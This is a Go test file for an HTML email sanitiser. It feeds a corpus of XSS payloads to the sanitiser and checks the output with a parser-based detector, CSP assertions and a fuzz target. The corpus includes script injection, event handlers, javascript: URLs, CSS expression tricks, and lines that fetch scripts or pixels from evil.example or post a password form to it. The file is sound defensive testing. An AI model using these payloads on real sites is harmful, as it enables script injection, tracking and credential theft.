package htmlsafe

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostile is a corpus of script-capable and content-fetching constructs.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="  javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<body onload=alert(1)>`,
	`<div onclick="alert(1)" onmouseover=alert(2)>x</div>`,
	`<svg onload=alert(1)><script>alert(2)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="http://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="http://evil.example/x.swf"></object>`,
	`<embed src="http://evil.example/x.swf">`,
	`<form action="http://evil.example"><input name=p type=password><button>go</button></form>`,
	`<meta http-equiv="refresh" content="0;url=http://evil.example">`,
	`<base href="http://evil.example/">`,
	`<link rel=stylesheet href="http://evil.example/x.css">`,
	`<style>@import url(http://evil.example/x.css); body{color:red}</style>`,
	`<style>@import 'http://evil.example/x.css';</style>`,
	`<style>body{background:url(http://evil.example/track.png)}</style>`,
	`<style>body{background:url("https://evil.example/track.png")}</style>`,
	`<style>body{background:\75\72\6c(http://evil.example/esc.png)}</style>`,
	`<style>div{width:expression(alert(1))}</style>`,
	`<style>div{behavior:url(x.htc);-moz-binding:url(http://evil.example/x.xml#x)}</style>`,
	`<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style>`,
	`<style>div{background-image:image-set("http://evil.example/a.png" 1x)}</style>`,
	`<style></style><script>alert(1)</script><style>`,
	`<style>a{color:red}</style></style><script>alert(1)</script>`,
	`<style>a::after{content:"</style><script>alert(1)</script>"}</style>`,
	`<div style="background:url(http://evil.example/t.png)">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`,
	`<div style="background-image:url(javascript:alert(1))">x</div>`,
	`<img src="http://evil.example/pixel.gif" width=1 height=1>`,
	`<img src="//evil.example/pixel.gif">`,
	`<img srcset="http://evil.example/a.png 1x">`,
	`<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/bg.png">x</td></tr></table>`,
	`<video poster="http://evil.example/p.png"></video>`,
	`<audio src="http://evil.example/a.mp3" autoplay></audio>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<a href="http://ok.example/" target="_self" onfocus=alert(1) autofocus>link</a>`,
	`<details open ontoggle=alert(1)>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<portal src="http://evil.example"></portal>`,
	`<isindex action="javascript:alert(1)" type=image>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`<div style="position:fixed;top:0;left:0" onmouseenter=alert(1)>x</div>`,
	`<a href="mailto:a@example.org" formaction="javascript:alert(1)">m</a>`,
	`<img src=x:x onerror=alert(1)>`,
}

// unsafe reports a script-capable or fetching construct in a sanitised
// document, by parsing it as a browser would.
func unsafe(t *testing.T, doc string, remoteAllowed bool) []string {
	t.Helper()
	var bad []string
	root, err := html.Parse(strings.NewReader(doc))
	if err != nil {
		return []string{"unparseable"}
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "iframe", "object", "embed", "form", "input", "button", "meta", "base", "link",
				"svg", "math", "frame", "frameset", "applet", "portal", "audio", "video", "template", "isindex":
				if n.Data != "meta" || !isOurMeta(n) {
					bad = append(bad, "element "+n.Data)
				}
			case "style":
				if n.Parent == nil || n.Parent.Data != "head" {
					bad = append(bad, "style outside head")
				}
				for c := n.FirstChild; c != nil; c = c.NextSibling {
					bad = append(bad, badCSS(c.Data, remoteAllowed)...)
				}
			}
			for _, a := range n.Attr {
				k, v := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
				switch {
				case strings.HasPrefix(k, "on"):
					bad = append(bad, "handler "+k)
				case k == "srcdoc" || k == "formaction" || k == "srcset" || k == "background" || k == "poster" || k == "action":
					bad = append(bad, "attribute "+k)
				case k == "style":
					bad = append(bad, badCSS(v, remoteAllowed)...)
				case k == "href" || k == "src":
					if !(strings.HasPrefix(v, "http:") || strings.HasPrefix(v, "https:") || remoteAllowed && strings.HasPrefix(v, "//") || strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "mailto:") ||
						strings.HasPrefix(v, "data:image/png") || strings.HasPrefix(v, "data:image/gif") || strings.HasPrefix(v, "tel:")) {
						bad = append(bad, "url "+v)
					}
					if k == "src" && !remoteAllowed && (strings.HasPrefix(v, "http") || strings.HasPrefix(v, "//")) {
						bad = append(bad, "remote src "+v)
					}
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
	return bad
}

func isOurMeta(n *html.Node) bool {
	return n.Parent != nil && n.Parent.Data == "head"
}

func badCSS(css string, remoteAllowed bool) []string {
	var bad []string
	l := strings.ToLower(css)
	for _, s := range []string{"expression", "javascript:", "@import", "behavior", "binding", "\\", "</"} {
		if strings.Contains(l, s) {
			bad = append(bad, "css "+s)
		}
	}
	if !remoteAllowed && remoteURL.MatchString(l) {
		bad = append(bad, "remote css")
	}
	return bad
}

func TestHostileCorpus(t *testing.T) {
	for _, remote := range []bool{false, true} {
		for _, in := range hostile {
			res := Sanitize(in, Options{AllowRemote: remote})
			if bad := unsafe(t, res.HTML, remote); len(bad) > 0 {
				t.Errorf("remote=%v %q\n  -> %q\n  unsafe: %v", remote, in, res.HTML, bad)
			}
		}
		// All at once, too.
		res := Sanitize(strings.Join(hostile, "\n"), Options{AllowRemote: remote})
		if bad := unsafe(t, res.HTML, remote); len(bad) > 0 {
			t.Errorf("remote=%v whole corpus unsafe: %v", remote, bad)
		}
	}
}

func TestRemoteAndCID(t *testing.T) {
	in := `<html><head><style>.x{color:#333;background:url(cid:bg@x)}</style></head><body>
<p class="x" style="font-weight:bold">Hello <b>there</b></p>
<img src="cid:logo@x" alt="logo"><img src="http://tracker.example/p.gif">
<a href="https://example.org/page">link</a></body></html>`
	cid := func(id string) (string, bool) {
		if id == "logo@x" || id == "bg@x" {
			return "https://mail.example.org/jmap/download/A1/P1_2/" + id, true
		}
		return "", false
	}
	res := Sanitize(in, Options{CID: cid})
	if !res.RemoteBlocked {
		t.Errorf("remote image not reported")
	}
	for _, want := range []string{`src="https://mail.example.org/jmap/download/A1/P1_2/logo@x"`, `url("https://mail.example.org/jmap/download/A1/P1_2/bg@x")`,
		`style="font-weight:bold"`, `<b>there</b>`, `href="https://example.org/page"`, `noreferrer`, `target="_blank"`, `color:#333`} {
		if !strings.Contains(res.HTML, want) {
			t.Errorf("missing %s in\n%s", want, res.HTML)
		}
	}
	if strings.Contains(res.HTML, "tracker.example") {
		t.Errorf("remote image kept:\n%s", res.HTML)
	}
	res = Sanitize(in, Options{CID: cid, AllowRemote: true})
	if !strings.Contains(res.HTML, `src="http://tracker.example/p.gif"`) || res.RemoteBlocked {
		t.Errorf("remote=1 lost the image:\n%s", res.HTML)
	}
}

func TestCSP(t *testing.T) {
	c := CSP("https://mail.example.org/jmap/download/", false)
	for _, want := range []string{"default-src 'none'", "img-src data: https://mail.example.org/jmap/download/", "sandbox", "style-src 'unsafe-inline'"} {
		if !strings.Contains(c, want) {
			t.Errorf("CSP %q lacks %q", c, want)
		}
	}
	if strings.Contains(c, "script-src") || strings.Contains(c, "allow-scripts") || strings.Contains(c, "allow-same-origin") {
		t.Errorf("CSP allows scripts: %q", c)
	}
	if !strings.Contains(CSP("x", true), "img-src * data:") {
		t.Errorf("remote CSP: %q", CSP("x", true))
	}
}

func FuzzSanitize(f *testing.F) {
	for _, h := range hostile {
		f.Add(h, false)
	}
	f.Fuzz(func(t *testing.T, in string, remote bool) {
		res := Sanitize(in, Options{AllowRemote: remote})
		if bad := unsafe(t, res.HTML, remote); len(bad) > 0 {
			t.Errorf("%q -> %q: %v", in, res.HTML, bad)
		}
	})
}

// remoteURL finds a CSS url() that fetches from the network. Sanitised CSS
// holds no escapes, so this plain match sees every url().
var remoteURL = regexp.MustCompile(`url\(\s*["']?\s*(https?:|//)`)
